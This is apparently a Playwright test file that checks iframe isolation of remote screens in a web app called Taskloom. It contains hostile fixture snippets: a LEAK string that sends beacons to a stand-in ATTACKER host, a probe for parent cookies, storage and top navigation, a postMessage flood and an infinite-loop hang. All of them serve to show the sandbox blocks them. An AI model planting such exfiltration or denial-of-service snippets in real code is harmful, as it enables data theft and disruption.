import type { BrowserContext, FrameLocator, Page } from '@playwright/test';
import {
  API,
  API_BASE,
  STORAGE_KEYS,
  type RemotePermissions,
  type ResolvedRemote,
} from '@taskloom/contracts';
import { twoOnAProject } from '../commands/people.js';
import { FramePage } from '../pages/frame.page.js';
import { ATTACKER, ATTACKS, publishHostile } from './hostile-builds.js';
import { TestRegistry } from './registry.js';
import { expect, given, test } from './test.js';
import { scaled } from '../installation/limits.js';

/** A remote of this repository, in a frame for this browser only. */
const framed = async (
  context: BrowserContext,
  name: string,
  permissions: RemotePermissions,
): Promise<TestRegistry> => {
  const registry = await TestRegistry.of(context);
  registry.activate({ ...registry.entry(name), isolation: 'frame', permissions });
  return registry;
};

const live = async (context: BrowserContext, ...remotes: ResolvedRemote[]): Promise<TestRegistry> => {
  const registry = await TestRegistry.of(context);
  registry.answer.remotes.push(...remotes.map((remote) => ({ ...remote, isolation: 'frame' as const })));
  return registry;
};

const insideOf = (page: Page): FrameLocator => page.frameLocator('iframe[src^="/frames/"]');

/** As another tab does it. */
const choose = (page: Page, key: string, value: string): Promise<void> =>
  page.evaluate(
    ([name, chosen]) => {
      localStorage.setItem(name, chosen);
      window.dispatchEvent(new StorageEvent('storage', { key: name }));
    },
    [key, value] as const,
  );

test('a screen in a frame reads data and follows theme, language and shortcuts', async ({
  page,
  context,
  signInAs,
}) => {
  await signInAs(await given.user());
  await framed(context, 'calendar', { calls: ['projects.read', 'tasks.read'] });
  const calls: string[] = [];
  page.on('request', (request) => calls.push(new URL(request.url()).pathname));
  const frame = new FramePage(page);
  await page.goto('/settings');
  await frame.entry('Calendar').click();
  const inside = insideOf(page);
  await expect(inside.getByRole('heading', { name: 'Project Calendar' })).toBeVisible();
  await expect(page.locator('iframe')).toHaveAttribute('title', 'Project Calendar');
  await expect(page.locator('iframe')).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(inside.locator(':focus')).toHaveCount(1);
  await expect.poll(() => calls).toContain(`${API_BASE}${API.calendar}`);

  await choose(page, 'taskloom-theme', 'dark');
  await expect(inside.locator('html')).toHaveAttribute('data-theme', 'dark');
  await choose(page, 'taskloom:language', 'de');
  await expect(inside.getByRole('heading', { name: 'Projektkalender' })).toBeVisible();
  await choose(page, 'taskloom:language', 'en');

  const bell = page.getByRole('button', { name: /^Notifications/ });
  await bell.click();
  await expect(bell).toHaveAttribute('aria-expanded', 'true');
  await inside.getByRole('button', { name: 'Today' }).click();
  await expect(bell).toHaveAttribute('aria-expanded', 'false');
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog', { name: 'Command palette' })).toBeVisible();
  await page.keyboard.press('Escape');
  await frame.entry('Dashboard').click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test(
  'a screen in a frame is refused the calls that it does not declare',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    await signInAs(await given.user());
    await framed(context, 'calendar', { calls: ['projects.read'] });
    const calls: string[] = [];
    page.on('request', (request) => calls.push(new URL(request.url()).pathname));
    const printed: string[] = [];
    page.on('console', (message) => printed.push(message.text()));
    await page.goto('/calendar');
    await expect(insideOf(page).getByRole('heading', { name: 'Project Calendar' })).toBeVisible();
    await expect.poll(() => printed.join('\n')).toContain('calendar may not call getCalendar');
    expect(calls).not.toContain(`${API_BASE}${API.calendar}`);
  },
);

const LEAK = `fetch('${ATTACKER}/', { mode: 'no-cors' }).catch(() => {}); new Image().src = '${ATTACKER}/'; navigator.sendBeacon('${ATTACKER}/', 'x');`;

const REACH = `() => {
  const tried = (act) => { try { return String(act()); } catch (error) { return error.name; } };
  return 'reached: ' + [
    tried(() => parent.document.title), tried(() => localStorage.length), tried(() => sessionStorage.length),
    tried(() => document.cookie), tried(() => top.location.href), tried(() => (top.location = '/settings')),
    String(self.origin),
  ].join(' ');
}`;

test('code in a frame reaches neither the page around it, its storage, its cookies nor another site', async ({
  page,
  context,
  signInAs,
}) => {
  const remote = await publishHostile({ name: 'reaching', attack: LEAK, screen: REACH });
  await signInAs(await given.user());
  await live(context, remote);
  const arrived: string[] = [];
  await context.route(`${ATTACKER}/**`, (route) => {
    arrived.push(route.request().url());
    return route.fulfill({ body: 'thanks' });
  });
  await page.goto('/reaching');
  await expect(insideOf(page).getByText(/^reached:/)).toHaveText(
    `reached: ${'SecurityError '.repeat(6)}null`,
  );
  expect(page.url()).toContain('/reaching');
  expect(arrived).toEqual([]);
});

test(
  'the shell works while each of the twelve hostile remotes runs in a frame',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    test.slow();
    const names = Object.keys(ATTACKS) as (keyof typeof ATTACKS)[];
    const remotes = await Promise.all(
      names.map((name) => publishHostile({ name: `framed-${name}`, attack: ATTACKS[name] })),
    );
    await signInAs(await given.user());
    await live(context, ...remotes);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto('/');
    const frame = new FramePage(page);
    for (const { name } of remotes) {
      const began = page.waitForResponse(`**/r/${name}/1.0.0/remote-entry.js`);
      await frame.entry(name).click();
      await began;
      await frame.entry('Dashboard').click();
      await expect(frame.heading('Dashboard')).toBeVisible();
      await expect(page.locator('iframe')).toHaveCount(0);
      await page.keyboard.press('Control+k');
      await expect(page.getByRole('dialog', { name: 'Command palette' }), name).toBeVisible();
      await page.keyboard.press('Escape');
    }
    expect(
      await page.evaluate(
        (token) => ({
          signedIn: localStorage.getItem(token) !== null,
          natives: [fetch, history.pushState, Array.prototype.map].map((native) =>
            String(native).includes('[native code]'),
          ),
          red: getComputedStyle(document.body).color === 'rgb(255, 0, 0)',
        }),
        STORAGE_KEYS.token,
      ),
    ).toEqual({ signedIn: true, natives: [true, true, true], red: false });
    expect(dialogs).toEqual([]);
  },
);

/** After the click has been answered, on which Playwright waits. */
const HANGS_BY_BUTTON = `() => React.createElement('button', { onClick: () => setTimeout(() => { for (;;); }, 300) }, 'Hang')`;

test(
  'a frame that hangs is closed, with a card that loads it again',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    const remote = await publishHostile({ name: 'hanging', screen: HANGS_BY_BUTTON });
    await signInAs(await given.user());
    await live(context, remote);
    await page.goto('/hanging');
    await insideOf(page).getByRole('button', { name: 'Hang' }).click();
    await expect(page.getByText(/mount-[0-9a-f]{6}/)).toBeVisible({ timeout: scaled(20_000) });
    await page.getByRole('button', { name: 'Retry' }).click();
    await expect(insideOf(page).getByRole('button', { name: 'Hang' })).toBeVisible();
  },
);

test(
  'a project in a frame is written, stays live, opens tabs, and is not left with something unsaved',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    const { ann, ben, project } = await twoOnAProject();
    await signInAs(ann);
    const calls = ['projects.read', 'tasks.read', 'tasks.write', 'team.read', 'profile.read'] as const;
    await framed(context, 'projects', { calls: [...calls] });
    await page.goto(`/projects/${project._id}`);
    const inside = insideOf(page);
    const column = inside.getByRole('region', { name: /^To Do/ });
    const dialog = inside.getByRole('dialog', { name: 'Create New Task' });
    const beginTask = async (title: string): Promise<void> => {
      await column.getByRole('button', { name: /^add task/i }).click();
      await dialog.getByLabel('Title').fill(title);
    };
    await beginTask('Dock the ship');
    await dialog.getByRole('button', { name: 'Create Task' }).click();
    await expect(column.getByRole('listitem').filter({ hasText: 'Dock the ship' })).toBeVisible();
    await given.task(ben, project, { title: 'Oil the mill', status: 'todo' });
    const card = column.getByRole('listitem').filter({ hasText: 'Oil the mill' });
    await expect(card).toBeVisible();

    const opened = context.waitForEvent('page');
    await card.getByRole('link').click({ modifiers: ['Control'] });
    const tab = await opened;
    await expect(tab).toHaveURL(/\/tasks\//);
    await tab.close();

    await beginTask('Half a thought');
    const frame = new FramePage(page);
    await frame.entry('Calendar').click();
    const question = page.getByRole('dialog', { name: 'Discard unsaved changes?' });
    await question.getByRole('button', { name: 'Keep editing' }).click();
    await expect(dialog.getByLabel('Title')).toHaveValue('Half a thought');
    await frame.entry('Calendar').click();
    await question.getByRole('button', { name: 'Discard changes' }).click();
    await expect(frame.heading('Project Calendar')).toBeVisible();
  },
);

test(
  'a frame that floods the shell is closed, with a card and its reference',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    const attack = `setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage('flood', '*'); }, 10);`;
    const remote = await publishHostile({ name: 'flooding', attack });
    await signInAs(await given.user());
    await live(context, remote);
    await page.goto('/flooding');
    await expect(page.getByText(/mount-[0-9a-f]{6}/)).toBeVisible({ timeout: scaled(20_000) });
    await expect(page.locator('iframe')).toHaveCount(0);
  },
);

test(
  'a withdrawn version in an open frame is replaced by the one that is live',
  { tag: '@long' },
  async ({ page, context, signInAs }) => {
    const bad = await publishHostile({
      name: 'withdrawn',
      version: '2.0.0',
      screen: `() => 'Screen of two'`,
    });
    const good = await publishHostile({ name: 'withdrawn', screen: `() => 'Screen of one'` });
    await signInAs(await given.user());
    const registry = await live(context, bad);
    await page.goto('/withdrawn');
    await expect(insideOf(page).getByText('Screen of two')).toBeVisible();
    registry.activate({ ...good, isolation: 'frame' });
    await page.evaluate(() => window.dispatchEvent(new Event('online')));
    await expect(insideOf(page).getByText('Screen of one')).toBeVisible();
  },
);
